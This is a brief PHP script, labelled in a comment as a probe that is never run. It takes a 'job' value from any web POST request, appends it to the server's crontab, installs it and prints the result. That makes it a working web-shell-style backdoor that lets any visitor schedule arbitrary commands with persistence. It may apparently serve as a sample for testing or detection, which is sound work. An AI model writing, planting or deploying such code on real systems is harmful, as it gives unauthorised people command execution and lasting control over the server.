<?php
// probe (never run): the job the visitor posts added to the crontab
$t = tempnam('/tmp', 'cr');
$cur = `crontab -l`;
file_put_contents($t, $cur . $_POST['job'] . PHP_EOL);
exec("crontab $t");
unlink($t);
echo nl2br(htmlspecialchars(`crontab -l`));
